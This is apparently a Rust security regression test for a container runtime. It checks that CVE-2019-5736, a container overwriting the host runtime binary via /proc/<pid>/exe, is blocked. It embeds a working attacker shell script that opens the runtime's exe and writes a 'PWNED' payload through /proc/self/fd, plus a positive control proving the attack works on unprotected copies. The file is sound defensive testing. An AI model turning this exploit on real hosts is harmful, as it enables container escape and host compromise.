//! CVE-2019-5736: a container must not be able to overwrite the runtime binary on the host
//! through /proc/<pid>/exe of a runtime process that entered the container.
//!
//! The runtime under test runs from a COPY in a scratch directory, so a successful attack
//! damages nothing but the copy. The attacker is a container with root and every
//! capability: it scans its /proc for processes whose exe is not busybox, opens that exe
//! read-only (which works even while it runs), waits until the process is gone (writing
//! to a running executable is ETXTBSY), then writes through /proc/self/fd/N. Against an
//! unprotected runtime that write truncates and replaces the runtime binary on the host;
//! a protected runtime runs from a sealed memfd (runc) or a read-only copy, so the write
//! fails and the host binary is unchanged.

use std::fs;
use std::os::fd::{FromRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use skiff_tests::*;

/// The attacker: pid 1 of container A. Logs to /out/log.
const ATTACK: &str = r#"
touch /out/scanning
i=0
while [ $i -lt 20000 ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = "$$" ] && continue
    e=$(readlink $d/exe 2>/dev/null) || continue
    case "$e" in ""|/bin/busybox) continue;; esac
    grep -qx "$p" /out/seen 2>/dev/null && continue
    echo "$p" >> /out/seen
    # Only ever attack the test's own copies (or what is no file on the host: a memfd, a
    # deleted or detached file): any other host binary seen here is reported, not written.
    case "$e" in
      "$SCRATCH"/*|/memfd:*|*" (deleted)"|/) ;;
      *) echo "foreign $p $e" >> /out/log; continue;;
    esac
    (
      exec 3< $d/exe || { echo "open-failed $p $e" >> /out/log; exit 1; }
      echo "opened $p $e" >> /out/log
      n=0
      while [ $n -lt 1500 ]; do
        if { printf '#!/bin/sh\necho PWNED\n' > /proc/self/fd/3; } 2>/out/err.$p; then
          echo "WRITE-OK $p $e" >> /out/log; exit 0
        fi
        grep -q busy /out/err.$p || { echo "WRITE-FAILED $p $e: $(cat /out/err.$p)" >> /out/log; exit 0; }
        n=$((n+1)); sleep 0.02
      done
      echo "WRITE-GAVE-UP $p $e" >> /out/log
    ) &
  done
  i=$((i+1)); sleep 0.01
done
"#;

struct Setup {
    _bin_dir: Scratch,
    bin: PathBuf,
    sha: String,
    bytes: Vec<u8>,
    out: Scratch,
    rt: Runtime,
    a: Bundle,
    a_id: String,
}

/// A copy of the runtime under test, and the attacker container A running from it.
fn setup() -> Setup {
    let bin_dir = Scratch::new("cve-bin");
    let bin = copy_binary(runtime_bin(), bin_dir.path());
    let sha = sha256(&bin);
    let bytes = fs::read(&bin).unwrap();
    let rt = Runtime::with_bin(&bin);
    let out = Scratch::new("cve-out");
    let mut a = Bundle::with_runtime(&bin);
    let caps = all_caps();
    fs::create_dir(a.rootfs().join("out")).unwrap();
    a.set("/root/readonly", json!(false))
        .set("/process/noNewPrivileges", json!(false))
        .set(
            "/process/capabilities",
            json!({"bounding": caps, "effective": caps, "permitted": caps, "inheritable": caps, "ambient": caps}),
        )
        .namespace("pid", None)
        .add_mount(json!({"destination": "/out", "type": "bind", "source": out.path(), "options": ["rbind", "rw"]}))
        .env(&format!("SCRATCH={}", base_dir().display()))
        .sh(ATTACK);
    let a_id = rt.id("cve-attacker");
    rt.create_start(&a, &a_id);
    wait_until("the attacker to start scanning", TIMEOUT, || out.join("scanning").exists());
    Setup { _bin_dir: bin_dir, bin, sha, bytes, out, rt, a, a_id }
}

impl Setup {
    fn log(&self) -> String {
        read(self.out.join("log"))
    }

    /// Waits (at most `timeout`) until the attacker holds the exe of a runtime process.
    fn wait_opened(&self, timeout: Duration) -> bool {
        let start = std::time::Instant::now();
        while start.elapsed() < timeout {
            let log = self.log();
            if log.contains("opened") || log.contains("open-failed") {
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        false
    }

    /// After the runtime process is gone: waits until every write attempt finished.
    fn wait_attempts(&self) {
        wait_until("the attacker's write attempts", TIMEOUT, || {
            let log = self.log();
            let opened = log.lines().filter(|l| l.starts_with("opened")).count();
            let done = log.lines().filter(|l| l.starts_with("WRITE-")).count();
            done >= opened
        });
    }

    #[track_caller]
    fn assert_binary_intact(&self, what: &str) {
        let log = self.log();
        eprintln!("{what}: attacker log:\n{log}");
        assert!(
            !log.contains("foreign"),
            "{what}: a host binary other than the runtime's copy entered the container (attackable):\n{log}"
        );
        assert!(!log.contains("WRITE-OK"), "{what}: the container wrote to the runtime binary:\n{log}");
        assert!(!log.contains("WRITE-GAVE-UP"), "{what}: the runtime binary stayed busy:\n{log}");
        assert_eq!(sha256(&self.bin), self.sha, "{what}: the runtime binary on the host changed");
        assert!(fs::read(&self.bin).unwrap() == self.bytes, "{what}: the runtime binary on the host changed");
    }
}

/// A runtime process sits in the attacker's pid namespace for as long as we like: the
/// init of container B, created (not started) with A's pid namespace.
#[test]
fn runtime_init_in_a_joined_pid_namespace() {
    let s = setup();
    let a_pid = s.rt.pid(&s.a_id);
    let mut b = Bundle::with_runtime(&s.bin);
    b.namespace("pid", Some(Path::new(&format!("/proc/{a_pid}/ns/pid")))).args(&["true"]);
    let b_id = s.rt.id("cve-victim");
    s.rt.create(&b, &b_id).ok();
    assert!(s.wait_opened(TIMEOUT), "the attacker never saw the runtime's init (log: {:?})", s.log());
    // End the runtime process: the executable is no longer busy, the attacker writes.
    s.rt.delete_force(&b_id).ok();
    s.wait_attempts();
    s.assert_binary_intact("init in a joined pid namespace");
    let _ = &s.a;
}

/// `exec` of a `#!/proc/self/exe` script: the runtime's own binary is what the kernel
/// runs as the interpreter, inside the container. Its stdout/stderr is a full pipe, so
/// it blocks on its first write and the attacker has all the time it needs.
#[test]
fn exec_of_a_proc_self_exe_script() {
    let s = setup();
    let evil = s.a.rootfs().join("evil");
    fs::write(&evil, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o755)).unwrap();

    let mut fds = [0; 2];
    // SAFETY: pipe2 into a valid array; both ends are owned right after.
    assert_eq!(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) }, 0);
    let (rd, wr) = unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) };
    fill_pipe(&wr);

    let (mut cmd, desc) = s.rt.command(&["exec", &s.a_id, "/evil"]);
    cmd.stdin(Stdio::null()).stdout(Stdio::from(wr.try_clone().unwrap())).stderr(Stdio::from(wr));
    let mut child = cmd.spawn().unwrap_or_else(|e| panic!("spawn {desc}: {e}"));
    // Until the attacker holds something, or there is nothing to attack: `exec` is over,
    // or for 2 s no process but busybox ones has been in the container's pid namespace
    // (e.g. the runtime failed before exec and blocks writing its error to the pipe).
    let a_ns = fs::read_link(format!("/proc/{}/ns/pid", s.rt.pid(&s.a_id))).unwrap();
    let start = std::time::Instant::now();
    let mut last_seen = start;
    let mut reached = false;
    while start.elapsed() < Duration::from_secs(15) && last_seen.elapsed() < Duration::from_secs(2) {
        if s.wait_opened(Duration::from_millis(20)) {
            reached = true;
            break;
        }
        if let Ok(Some(_)) = child.try_wait() {
            break;
        }
        let runtime_inside = processes().iter().any(|p| {
            fs::read_link(format!("/proc/{}/ns/pid", p.pid)).ok().as_ref() == Some(&a_ns)
                && !fs::read_link(format!("/proc/{}/exe", p.pid)).is_ok_and(|e| e.ends_with("bin/busybox"))
        });
        if runtime_inside {
            last_seen = std::time::Instant::now();
        }
    }
    drop(rd); // whoever blocks on the pipe gets EPIPE now, and exits
    s.wait_attempts();
    if wait_timeout(&mut child, TIMEOUT).is_none() {
        panic!("`{desc}` did not finish");
    }
    if !reached {
        eprintln!("NOTE: the attacker saw no runtime process during exec (nothing blocked on the full pipe)");
    }
    s.assert_binary_intact("exec of #!/proc/self/exe");
}

/// Fills a pipe until a write would block, leaving it in blocking mode.
fn fill_pipe(fd: &OwnedFd) {
    use std::os::fd::AsRawFd;
    let fd = fd.as_raw_fd();
    // SAFETY: fcntl/write on a valid pipe fd we own.
    unsafe {
        let fl = libc::fcntl(fd, libc::F_GETFL);
        libc::fcntl(fd, libc::F_SETFL, fl | libc::O_NONBLOCK);
        let buf = [b'x'; 4096];
        let mut n = 0;
        while libc::write(fd, buf.as_ptr().cast(), buf.len()) > 0 {
            n += 1;
            assert!(n < 100_000, "pipe never filled");
        }
        // Top up byte by byte (a pipe takes writes of at most the free space).
        while libc::write(fd, buf.as_ptr().cast(), 1) > 0 {}
        libc::fcntl(fd, libc::F_SETFL, fl & !libc::O_NONBLOCK);
    }
}

/// Positive control: the same attacker does overwrite an unprotected binary that a host
/// process runs inside its pid namespace. Without this the tests above could pass because
/// the attack itself was broken. Only copies enter the namespace: nsenter's own process is
/// in it between its fork and its exec, so a host nsenter would be overwritten too.
#[test]
fn the_attack_works_against_an_unprotected_binary() {
    let s = setup();
    let a_pid = s.rt.pid(&s.a_id);
    let dir = Scratch::new("cve-victim");
    let nsenter = copy_binary(&which("nsenter").expect("nsenter on PATH"), dir.path());
    let victim = copy_binary(&which("sleep").expect("sleep on PATH"), dir.path());
    let host_nsenter = fs::read(which("nsenter").unwrap()).unwrap();
    let mut cmd = std::process::Command::new(&nsenter);
    cmd.args(["-t", &a_pid.to_string(), "-p", "--"]).arg(&victim).arg("1000").stdin(Stdio::null());
    let mut child = cmd.spawn().expect("nsenter");
    let opened = s.wait_opened(TIMEOUT);
    let _ = child.kill(); // the nsenter copy; its child, the victim, is in A's pid namespace:
    for p in processes() {
        if fs::read_link(format!("/proc/{}/exe", p.pid)).ok().as_deref() == Some(victim.as_path()) {
            // SAFETY: kill(2) of the victim process this test started.
            unsafe { libc::kill(p.pid, libc::SIGKILL) };
        }
    }
    let _ = child.wait();
    assert!(opened, "the attacker never saw the victim: {}", s.log());
    s.wait_attempts();
    let log = s.log();
    eprintln!("attacker log:\n{log}");
    assert!(log.contains("WRITE-OK"), "the attack failed against an unprotected binary:\n{log}");
    let payload = "#!/bin/sh\necho PWNED\n";
    assert!(
        read(&victim) == payload || read(&nsenter) == payload,
        "one of the unprotected copies was replaced:\n{log}"
    );
    assert!(!log.contains("foreign"), "{log}");
    // And nothing else was touched.
    assert_eq!(sha256(&s.bin), s.sha);
    assert!(fs::read(which("nsenter").unwrap()).unwrap() == host_nsenter);
}
